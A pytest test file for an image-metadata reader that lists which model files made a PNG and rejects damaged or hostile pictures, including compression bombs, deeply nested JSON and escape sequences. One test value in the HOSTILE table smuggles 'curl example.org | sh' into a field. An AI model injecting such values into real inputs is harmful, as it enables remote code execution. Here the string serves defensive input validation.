"""`identify PICTURE.png` reads which files made a picture, and says what is wrong with damaged and hostile ones."""

import io
import json
import struct
import tracemalloc
import zlib

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from image_prompt.command_line import command, identify
from image_prompt.model_files.folders import Installation, ModelFolders
from image_prompt.model_files.folders.installation import CATALOGUE
from image_prompt.model_files.pictures import CHUNK, png_text

USED = {"node": "4", "kind": "adapter", "folder": "ipadapter", "name": "sub/a.safetensors", "size": 7}
KNOWN = {"family": "plus", "base_model": "SD1.5", "encoder": "CLIP ViT-H/14", "dtype": "float16"}
RECORD = {"version": "1.0.0", "files": [{**USED, **KNOWN}]}
TEXT = json.dumps(RECORD)
NAME = CHUNK.encode() + b"\0"


def png(text: str | None = None, **options) -> bytes:
    """A picture with a text that Pillow writes, as ComfyUI's savers do."""
    info, file = PngInfo(), io.BytesIO()
    info.add_text("prompt", "{}")
    if text is not None:
        getattr(info, options.pop("how", "add_text"))(CHUNK, text, **options)
    Image.new("RGB", (3, 2)).save(file, "PNG", pnginfo=info)
    return file.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_chunk(kind: bytes, data: bytes) -> bytes:
    """A picture with a chunk before its end, where ComfyUI writes that of animations."""
    plain = png()
    return plain[:-12] + chunk(kind, data) + plain[-12:]


@pytest.fixture
def call(capsys, tmp_path):
    """Run the command on these bytes: (exit code, what it tells programs, what it prints for people)."""
    (tmp_path / "models" / "ipadapter" / "sub").mkdir(parents=True)

    def call(content: bytes, name: str = "picture.png") -> tuple[int, dict, str]:
        path = tmp_path / name
        path.write_bytes(content)
        places = ["--models", str(tmp_path / "models")]
        code = command.main(["identify", "--json", *places, str(path)])
        told = json.loads(capsys.readouterr().out)[0]
        assert command.main(["identify", *places, str(path)]) == code
        return code, told, " ".join(capsys.readouterr().out.split())

    return call


PACKED = zlib.compress(TEXT.encode())


@pytest.mark.parametrize(
    "picture",
    [
        png(TEXT),
        png(TEXT, zip=True),
        png(TEXT, how="add_itxt"),
        png(TEXT, how="add_itxt", lang="en", tkey="files", zip=True),
        with_chunk(b"comf", NAME + TEXT.encode()),
    ],
    ids=["tEXt", "zTXt", "iTXt", "iTXt, packed", "animation"],
)
def test_a_record_is_read_however_it_is_stored(call, picture):
    code, told, said = call(picture)
    assert (code, told["container"], told["problem"], told["usable"]) == (0, "PNG", "", False)
    assert told["made_with"] == {"version": "1.0.0", "files": [{**RECORD["files"][0], "here": "no", "path": ""}]}
    assert "made with Image Prompt 1.0.0 and one file ipadapter/sub/a.safetensors" in said
    assert "IP-Adapter (plus) for SD1.5 that reads CLIP ViT-H/14, float16 size 7 bytes node 4 on this disk no" in said


@pytest.mark.parametrize(
    ("name", "content", "here"),
    [
        ("sub/a.safetensors", b"7 bytes", "yes"),
        ("sub/a.safetensors", b"another", "yes"),  # the content is not read
        ("sub/a.safetensors", b"longer than 7", "no: the file of this name here has 13 bytes"),
        ("b.safetensors", b"7 bytes", "perhaps, as b.safetensors, which has the same size"),
    ],
)
def test_it_says_whether_a_file_is_here(call, tmp_path, name, content, here):
    path = tmp_path / "models" / "ipadapter" / name
    path.write_bytes(content)
    (file,) = call(png(TEXT))[1]["made_with"]["files"]
    assert (file["here"], file["path"]) == (here, "" if here.startswith("no") else str(path.resolve()))


def test_a_file_that_is_not_here_and_is_in_the_catalogue_can_be_fetched(call, tmp_path):
    files = [{**USED, "catalogue": "ip-adapter_sd15"}, {**USED, "folder": "no such type"}]
    files.append({**USED, "catalogue": "of-another-user"})
    code, told, _ = call(png(json.dumps({"files": files})))
    assert code == 0 and [file["here"] for file in told["made_with"]["files"]] == [
        "no. `get ip-adapter_sd15` fetches it",
        "no",
        "no",
    ]
    (tmp_path / "main.py").touch()
    (tmp_path / "user").mkdir()
    (tmp_path / "user" / CATALOGUE).write_text("no JSON")  # with which `get` fetches nothing
    assert call(png(json.dumps({"files": files})))[1]["made_with"]["files"][0]["here"] == "no"


def test_without_an_installation_it_still_says_which_files(tmp_path):
    path = tmp_path / "picture.png"
    path.write_bytes(png(TEXT))
    told = identify.answer([str(path)], lambda: Installation.of(ModelFolders()))
    assert told.code == 0 and "here" not in told.data[0]["made_with"]["files"][0]
    assert "not looked for: no ComfyUI was found. Give one" in " ".join(" ".join(told.lines).split())


def test_where_the_folders_cannot_be_known_the_reason_is_said_in_their_place(tmp_path):
    def find() -> Installation:
        raise ValueError("extra_model_paths.yaml is not valid YAML")

    path = tmp_path / "picture.png"
    path.write_bytes(png(TEXT))
    told = identify.answer([str(path), str(path)], find)
    said = "not looked for: extra_model_paths.yaml is not valid YAML"
    assert told.code == 0 and " ".join(" ".join(told.lines).split()).count(f"on this disk {said}") == 2
    assert [each["made_with"]["files"] for each in told.data] == [
        [{**RECORD["files"][0], "here": said, "path": ""}]
    ] * 2


HUGE = zlib.compress(b" " * (png_text.LONGEST + 1))
IHDR = png()[8:33]
SEVERAL = png_text.SIGNATURE + IHDR + chunk(b"vpAg", b"") * png_text.CHUNKS
WRONG_SUM = bytearray(png(TEXT))
WRONG_SUM[WRONG_SUM.index(b"SD1.5")] ^= 1
WITHOUT = "does not say which files made it"
HOSTILE = {
    "without a record": (png(), WITHOUT),
    "with another keyword": (with_chunk(b"tEXt", CHUNK.encode() + b"s\0" + TEXT.encode()), WITHOUT),
    "keyword alone": (with_chunk(b"tEXt", CHUNK.encode()), WITHOUT),
    "empty text": (with_chunk(b"tEXt", NAME), "not JSON"),
    "signature alone": (png_text.SIGNATURE, "cut short"),
    "cut in a chunk": (png(TEXT)[:60], "cut short"),
    "no end": (png()[:-12], "cut short"),
    "chunk longer than the file": (png_text.SIGNATURE + b"\xff\xff\xff\xfftEXt" + NAME, "longer than the file"),
    "no chunk names": (png_text.SIGNATURE + bytes(100), "damaged"),
    "very many chunks": (SEVERAL, "more than 100,000 parts"),
    "wrong check sum": (bytes(WRONG_SUM), "check sum"),
    "long text": (with_chunk(b"tEXt", NAME + b" " * png_text.LONGEST), "at most"),
    "packed bomb": (with_chunk(b"zTXt", NAME + b"\0" + HUGE), "unpacks to more than"),
    "packed bomb in iTXt": (with_chunk(b"iTXt", NAME + b"\1\0\0\0" + HUGE), "unpacks to more than"),
    "packed text cut short": (with_chunk(b"zTXt", NAME + b"\0" + PACKED[:-9]), "cut short"),
    "packed text that is none": (with_chunk(b"zTXt", NAME + b"\0none"), "is damaged"),
    "packed text missing": (with_chunk(b"zTXt", NAME), "cut short"),
    "iTXt without its parts": (with_chunk(b"iTXt", NAME), "is damaged"),
    "iTXt that ends early": (with_chunk(b"iTXt", NAME + b"\0\0en\0"), "is damaged"),
    "iTXt that is no UTF-8": (with_chunk(b"iTXt", NAME + b"\0\0\0\0\xff"), "is damaged"),
    "not JSON": (png("workflow"), "not JSON"),
    "nested JSON": (png("[" * 100_000), "not JSON"),
    "no list": (png(json.dumps({"files": "a"})), "no list of"),
    "a list": (png("[]"), "no list of"),
    "very many files": (png(json.dumps({"files": [USED] * 1001})), "no list of"),
    "a file that is none": (png(json.dumps({"files": [USED, 5]})), "a file has no node, kind, folder, name"),
    "a file without a name": (png(json.dumps({"files": [{"node": "4"}]})), "a file has no"),
    "a version that is none": (png(json.dumps({"version": {"a": 1}, "files": [USED]})), "its version is not as"),
    "a long record": (png(json.dumps({"files": [USED], "more": " " * (1 << 20)})), "longer than 1,048,576"),
    **{
        f"{field}: {str(value)[:20]}": (
            png(json.dumps({"files": [{**USED, field: value}]})),
            f"the {field} of a file is",
        )
        for field, value in (
            *(("size", value) for value in (10**400, float("nan"), float("inf"), 1.5, True, -1, "7", {})),
            *(("name", value) for value in (None, "a" * 5000)),
            *(("family", value) for value in (["x"], "a" * 5000)),
            *(("catalogue", value) for value in (5, "x; curl example.org | sh", "x" * 5000)),
        )
    },
    "JPEG": (b"\xff\xd8\xff\xe0\0\x10JFIF", "is a JPEG picture. Which files made it is read from PNG"),
    "WebP": (b"RIFF\x24\0\0\0WEBPVP8 ", "is a WebP picture"),
}


@pytest.mark.parametrize(("content", "problem"), HOSTILE.values(), ids=HOSTILE)
def test_what_cannot_be_read_is_said(call, content, problem):
    code, told, said = call(content)
    assert code == 1 and problem in told["problem"] and problem in said and "curl" not in said
    assert told["made_with"] is None and told["usable"] is False


def test_strange_letters_are_printed_harmlessly_and_what_later_versions_add_is_left_out(call):
    strange = {**USED, "name": "a\x1b[2J\n.safetensors", "strength": float("nan")}
    del strange["size"]
    code, told, said = call(png(json.dumps({"version": "\x1b", "files": [strange]})))
    assert code == 0 and "\x1b" not in said and "size not known" in said
    assert set(told["made_with"]["files"][0]) == {"node", "kind", "folder", "name", "here", "path"}


def test_other_files_are_identified_as_before(call):
    code, told, _ = call(b"RIFF\x24\0\0\0WAVEfmt ", "sound.safetensors")
    assert code == 1 and set(told) == {"file", "container", "identity", "usable", "problem"}


def test_a_bomb_takes_no_more_memory_than_its_limit():
    packer, mega = zlib.compressobj(), bytes(1 << 20)
    bomb = b"".join(packer.compress(mega) for _ in range(10 * png_text.LONGEST >> 20)) + packer.flush()
    tracemalloc.start()
    with pytest.raises(png_text.NotReadable):
        png_text._unpacked(bomb)
    assert tracemalloc.get_traced_memory()[1] < 3 * png_text.LONGEST
    tracemalloc.stop()
